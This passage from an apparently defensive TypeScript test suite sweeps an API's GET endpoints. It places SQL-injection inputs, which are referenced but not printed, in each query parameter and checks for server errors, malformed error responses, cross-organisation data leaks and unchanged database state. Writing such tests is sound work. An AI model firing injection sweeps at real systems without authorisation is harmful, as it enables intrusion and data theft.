      .map(([template, ops]) => ({
        template,
        path: template.replace(/\{[a-zA-Z]+\}/g, (p) => (p === '{id}' ? id().survey : 'email')),
        params: (ops.get?.parameters ?? []).filter((p) => p.in === 'query').map((p) => p.name),
      }));
    // Some reads set things up the first time (a default theme list, a job): let them, before comparing.
    for (const g of gets) await asA('GET', g.path);
    const before = await snapshotOf(world, fx.a.orgId);
    const failures: string[] = [];
    for (const { template, path, params } of gets) {
      for (const param of params) {
        sweepCount++;
        const r = await asA('GET', `${path}?${param}=${encodeURIComponent(SQL[0]!)}`);
        const type = r.headers.get('content-type') ?? '';
        const text = type.includes('json') ? await r.text() : '';
        if (r.status >= 500) failures.push(`${template}?${param}: ${r.status}`);
        if (r.status >= 400 && !type.includes('problem+json'))
          failures.push(`${template}?${param}: ${r.status} without problem+json`);
        if (text.includes(fx.b.orgId)) failures.push(`${template}?${param}: another org's data`);
      }
    }
    expect(failures).toEqual([]);
    expect(sweepCount).toBeGreaterThan(20);
    expect(await snapshotOf(world, fx.a.orgId)).toEqual(before);
    passed += sweepCount;
  }, 120_000);

  it('runs at least 60 hostile inputs', () => {
    expect(total()).toBeGreaterThanOrEqual(60);
    expect(passed).toBe(total());
  });
});
